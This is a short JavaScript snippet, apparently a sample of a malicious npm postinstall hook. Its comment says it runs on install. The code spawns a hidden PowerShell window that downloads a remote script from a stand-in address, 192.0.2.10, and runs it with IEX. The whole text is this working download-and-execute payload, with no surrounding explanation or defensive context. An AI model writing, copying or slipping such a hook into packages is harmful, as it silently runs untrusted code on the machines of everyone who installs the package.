// PowerShell downloads and runs a script behind a hidden window; runs: postinstall
const child = require("child_process");
const script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a.ps1')";
child.exec('powershell -NoProfile -WindowStyle Hidden -Command "' + script + '"', { windowsHide: true });
